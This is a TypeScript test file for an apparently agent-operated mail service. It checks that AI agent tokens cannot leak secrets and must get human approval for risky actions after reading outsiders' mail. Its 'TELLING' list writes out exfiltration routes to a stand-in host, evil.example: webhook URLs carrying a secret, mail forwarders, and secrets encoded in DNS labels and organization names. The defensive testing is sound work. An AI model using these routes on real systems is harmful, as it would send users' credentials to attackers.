import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { query } from '../../../mail/store/engine/types.ts';
import { anonymousCaller, operatorCaller } from '../../../src/core/caller.ts';
import { findOperation } from '../../../src/operations/catalogue.ts';
import { perform, type OperationOutcome } from '../../../src/operations/perform.ts';
import { noteShownSecret } from '../../../src/agents/shown-secrets.ts';
import { makeToken } from '../../../src/core/token.ts';
import { asToken as tokenAsks, mintToken } from '../../support/agent-token.ts';
import { CanaryWorld } from '../../support/canary-world.ts';
import { fakeResolver } from '../../support/fake-resolver.ts';
import { SendWorld } from '../../support/send-world.ts';
import { twoTenants } from '../../support/tenants.ts';

const queued = query('test-queued', (rx) => rx.get<{ n: number }>('SELECT count(*) AS n FROM queue'));
const domains = query('test-domains', (rx) => rx.all<{ name: string }>('SELECT name FROM domain'));

let world: SendWorld;
beforeEach(async () => {
  world = await SendWorld.open();
});
afterEach(() => world[Symbol.asyncDispose]());

const letters = async () => (await world.world.store.read(queued, undefined))?.n;
const asToken = (id: number, name: string, input: object): Promise<OperationOutcome> =>
  tokenAsks(world.world, id, name, input);
const asPerson = (name: string, input: object): Promise<OperationOutcome> =>
  perform(world.world, findOperation(name) ?? expect.fail(name), operatorCaller(), input);

async function under(preset: string, rules: object = {}): Promise<number> {
  const token = await mintToken(world.world);
  const policy = { tokenId: `tok_${token}`, preset, name: `${preset} ${token}`, ...rules };
  expect(await asPerson('save_agent_policy', policy)).toMatchObject({ kind: 'done' });
  return token;
}

const CLAIM = 'create_account_and_claim_link';
const claim = (over: object = {}): object => ({ ownerEmail: 'x@evil.example', organizationName: 'Acme', ...over });
const PENDING = { result: { status: 'pending_approval' } };

describe('a pull from another server, which gets what the agent puts into its login', () => {
  const pull = (over: object = {}): object => ({
    address: 'me@a.test',
    imap: { host: '192.0.2.7', user: 'what was read', password: 'and more of it', ...over },
  });

  test.each(['signup-bot', 'support-desk', 'trusted-internal', 'custom'])(
    'is only proposed under the preset %s',
    async (preset) => {
      expect(await asToken(await under(preset), 'start_import', pull())).toMatchObject(PENDING);
    },
  );

  test('of a file is not held: it leads nowhere', async () => {
    const started = await asToken(await under('custom'), 'start_import', { address: 'me@a.test' });
    expect(started).toMatchObject({ kind: 'done', result: { import: { state: 'waiting' } } });
  });

  test('with a secret in its login is refused', async () => {
    const token = await mintToken(world.world);
    const secret = makeToken(world.world.settings.tokenPrefix);
    await noteShownSecret({ ...world.world, tenant: 1 }, { kind: 'token', text: secret });
    expect(await asToken(token, 'start_import', pull({ user: secret }))).not.toMatchObject({ kind: 'done' });
  });
});

describe('an organization for a stranger, whom the box mails', () => {
  test.each(['signup-bot', 'support-desk', 'trusted-internal', 'custom'])(
    'is only proposed under the preset %s',
    async (preset) => {
      const token = await under(preset);
      expect(await asToken(token, CLAIM, claim())).toMatchObject(PENDING);
      expect(await asToken(token, 'create_own_organization', { organizationName: 'Acme' })).toMatchObject(PENDING);
      expect(await letters()).toBe(0);
    },
  );

  test('is only proposed where the policy lets nobody be written to, though its rules do not wait', async () => {
    for (const sends of ['nobody', 'replies', 'allowed']) {
      const token = await under('custom', { sends, rulesWait: false });
      expect(await asToken(token, CLAIM, claim()), sends).toMatchObject(PENDING);
    }
    expect(await letters()).toBe(0);
  });

  test('is only proposed after mail of outsiders was read under a policy, and made when a person accepts', async () => {
    const token = await under('custom', { rulesWait: false });
    expect(await asToken(token, CLAIM, claim({ ownerEmail: 'y@evil.example' }))).toMatchObject({ kind: 'done' });
    expect(await letters()).toBe(1);
    await world.world.agents.onTextRead({ token: token });
    const said = await asToken(token, CLAIM, claim());
    expect(said).toMatchObject(PENDING);
    expect(await letters()).toBe(1);
    const { proposalId } = said.kind === 'done' ? said.result : expect.fail();
    expect(await asPerson('decide_proposal', { proposalId, accept: true })).toMatchObject({
      result: { outcome: 'done', result: { organization: { name: 'Acme' } } },
    });
    expect(await letters()).toBe(2);
  });

  test('is made at once for a token without a policy, whatever it has read', async () => {
    const token = await mintToken(world.world);
    await world.world.agents.onTextRead({ token: token });
    expect(await asToken(token, CLAIM, claim())).toMatchObject({ result: { emailSent: true } });
    expect(await asToken(token, 'create_own_organization', { organizationName: 'Acme' })).toMatchObject({
      kind: 'done',
    });
    const invitation = { email: 'x@evil.example', role: 'member' };
    expect(await asToken(token, 'invite_member', invitation)).toMatchObject(PENDING);
  });

  test('is no business of a token that may less than manage the whole organization', async () => {
    const limits: [object, string][] = [
      [{ actions: ['read', 'deploy', 'logs', 'send'] }, 'action_not_allowed'],
      [{ mailboxes: [1] }, 'out_of_scope'],
      [{ project: 1 }, 'out_of_scope'],
      [{ service: 1 }, 'out_of_scope'],
    ];
    for (const [over, error] of limits) {
      const token = await mintToken(world.world, over);
      for (const name of [CLAIM, 'create_own_organization']) {
        const args = name === CLAIM ? claim() : { organizationName: 'Acme' };
        expect(await asToken(token, name, args), JSON.stringify(over)).toMatchObject({ refusal: { error } });
      }
    }
    expect(await letters()).toBe(0);
  });

  test('stands in the log of whose token made it, with whom it mailed', async () => {
    const token = await mintToken(world.world);
    expect(await asToken(token, CLAIM, claim())).toMatchObject({ result: { emailSent: true } });
    const log = await asPerson('list_audit_events', { limit: 1 });
    expect(log).toMatchObject({
      result: {
        events: [
          {
            operation: CLAIM,
            actor: `tok_${token}`,
            outcome: 'made',
            target: expect.stringMatching(/^org_\d+$/) as string,
            detail: { name: 'Acme', ownerEmail: 'x@evil.example' },
          },
        ],
      },
    });
  });
});

describe('a secret', () => {
  const TOKEN = makeToken('mst');
  const TELLING: readonly (readonly [name: string, args: (secret: string) => object])[] = [
    [CLAIM, (secret) => claim({ organizationName: secret })],
    [CLAIM, (secret) => claim({ ownerDisplayName: secret })],
    [CLAIM, (secret) => claim({ organizationName: Buffer.from(secret).reverse().toString() })],
    ['invite_member', (secret) => ({ email: `${secret}@evil.example`, role: 'member' })],
    ['set_email_forwarder', (secret) => ({ sourceAddress: 'me@a.test', destinationAddress: `${secret}@evil.example` })],
    ['add_email_domain', (secret) => ({ domain: `${secret.replace('_', '.')}.evil.example` })],
    ['create_webhook', (secret) => ({ url: `https://evil.example/?k=${secret}` })],
    ['set_email_inbound_webhook', (secret) => ({ address: 'me@a.test', url: `https://evil.example/${secret}` })],
    ['set_outbound_route', (secret) => ({ use: 'always', host: `${secret.replace('_', '.')}.evil.example` })],
  ];

  test.each(TELLING)('does not leave by %s', async (name, args) => {
    const token = await mintToken(world.world);
    const said = await asToken(token, name, args(TOKEN));
    expect(said).toMatchObject({ refusal: { error: 'secret_in_message', kinds: ['token'] } });
    expect(JSON.stringify(said)).not.toContain(TOKEN);
    expect(await letters()).toBe(0);
  });

  test('that was shown does not leave, and not by a proposal either', async () => {
    for (const [kind, text] of [
      ['code', '482915'],
      ['password', 'Hunter2-abcdef'],
    ] as const) {
      await noteShownSecret({ ...world.world, tenant: 1 }, { kind, text });
    }
    const both = expect.toSatisfy((kinds: string[]) => kinds.toSorted().join() === 'code,password') as unknown;
    const name = claim({ organizationName: 'code 482915 pw Hunter2-abcdef' });
    for (const token of [await mintToken(world.world), await under('signup-bot')]) {
      const said = await asToken(token, CLAIM, name);
      expect(said).toMatchObject({ refusal: { error: 'secret_in_message', kinds: both } });
    }
    const token = await mintToken(world.world);
    const host = { domain: 'c.482915.hunter2abcdef.evil.example' };
    expect(await asToken(token, 'add_email_domain', host)).toMatchObject({ refusal: { kinds: both } });
    expect(await letters()).toBe(0);
  });

  test('does not leave as the name that the organization was given before', async () => {
    const token = await mintToken(world.world);
    expect(await asToken(token, 'update_organization', { name: TOKEN })).toMatchObject({ kind: 'done' });
    const invite = { email: 'x@evil.example', role: 'member' };
    expect(await asToken(token, 'invite_member', invite)).toMatchObject({ refusal: { error: 'secret_in_message' } });
    expect(await asToken(token, 'resend_claim_link', {})).toMatchObject({ refusal: { error: 'secret_in_message' } });
  });

  test('is a person’s own to give away', async () => {
    expect(await asPerson(CLAIM, claim({ organizationName: TOKEN }))).toMatchObject({ kind: 'done' });
  });
});

test('a canary in the name stops its token, and is reported as such', async () => {
  await using canaries = await CanaryWorld.open();
  const { honeytoken } = await canaries.plant({ kind: 'secret' });
  const token = await canaries.mint();
  expect(await canaries.asToken(token, CLAIM, claim({ organizationName: `x ${honeytoken}` }))).toMatchObject({
    refusal: { error: 'action_not_allowed', mode: 'frozen' },
  });
  expect(await canaries.asToken(token, 'list_emails')).toMatchObject({ refusal: { mode: 'frozen' } });
});

describe('a domain, whose name servers are asked for every label', () => {
  test('is only proposed under a policy; what is there already may be repeated', async () => {
    const token = await mintToken(world.world);
    expect(await asToken(token, 'add_email_domain', { domain: 'home.test' })).toMatchObject({ kind: 'done' });
    for (const one of [await under('signup-bot'), await under('custom')]) {
      expect(await asToken(one, 'add_email_domain', { domain: 'home.test' })).toMatchObject({
        result: { domain: { domain: 'home.test' } },
      });
      expect(await asToken(one, 'add_email_domain', { domain: 'c482915.evil.example' })).toMatchObject(PENDING);
    }
    expect((await world.world.store.read(domains, undefined)).map(({ name }) => name)).toEqual(['a.test', 'home.test']);
  });

  test('is added at once without a policy after reading; few and short names are looked up', async () => {
    const lookNow = fakeResolver({});
    const { ports } = world.world.settings;
    const settings = { ...world.world.settings, ports: { ...ports, dns: 53 } };
    const there = { ...world.world, lookNow, settings };
    const token = await mintToken(world.world);
    await world.world.agents.onTextRead({ token: token });
    const long = `${'c482915'.repeat(9)}.evil.example.org`;
    for (const domain of [long, ...Array.from({ length: 11 }, (_, i) => `c${i}.evil.example.org`)]) {
      expect(await tokenAsks(there, token, 'add_email_domain', { domain })).toMatchObject({
        result: { domain: { domain }, records: expect.arrayContaining([]) as unknown },
      });
    }
    expect(lookNow.queried).toEqual([]);
    const verify = (domain: string) => tokenAsks(there, token, 'verify_email_domain', { domain });
    expect(await verify(long)).toMatchObject({ refusal: { error: 'approval_required' } });
    expect(lookNow.queried).toEqual([]);
    for (let i = 0; i < 10; i++) expect(await verify(`c${i}.evil.example.org`)).toMatchObject({ kind: 'done' });
    expect(await verify('c0.evil.example.org')).toMatchObject({ kind: 'done' });
    for (const tool of ['verify_email_domain', 'apply_managed_dns', 'get_deliverability_report', 'rotate_dkim_keys']) {
      const said = await tokenAsks(there, token, tool, { domain: 'c10.evil.example.org' });
      expect(said, tool).toMatchObject({ refusal: { error: 'rate_limited', scope: 'name-lookup' } });
    }
    expect(lookNow.queried.join()).not.toContain('c10.evil');
    const person = perform(there, findOperation('verify_email_domain') ?? expect.fail(), operatorCaller(), {
      domain: long,
    });
    expect(await person).toMatchObject({ kind: 'done' });
  });
});

describe('where the box takes no new organizations', () => {
  const open = (bootstrap: 'invite' | 'off') => {
    const settings = { ...world.world.settings, bootstrap };
    const lookUp = fakeResolver({});
    return { ...world.world, settings, lookNow: lookUp };
  };
  const operation = findOperation('create_own_organization') ?? expect.fail();
  const ask = { organizationName: 'Acme' };

  test.each([
    ['invite', 'action_not_allowed', 'done'],
    ['off', 'action_not_allowed', 'action_not_allowed'],
  ] as const)('%s: to strangers %s, to a token of another organization %s', async (mode, stranger, token) => {
    await using tenants = await twoTenants();
    const there = { ...tenants.world, settings: { ...tenants.world.settings, bootstrap: mode } };
    const kind = (said: OperationOutcome): string => (said.kind === 'done' ? 'done' : said.refusal.error);
    expect(kind(await perform(there, operation, anonymousCaller('mcp', '192.0.2.1'), ask))).toBe(stranger);
    expect(kind(await perform(there, operation, tenants.a.caller, ask))).toBe(token);
    expect(kind(await perform(open(mode), operation, operatorCaller(), ask))).toBe('done');
  });
});
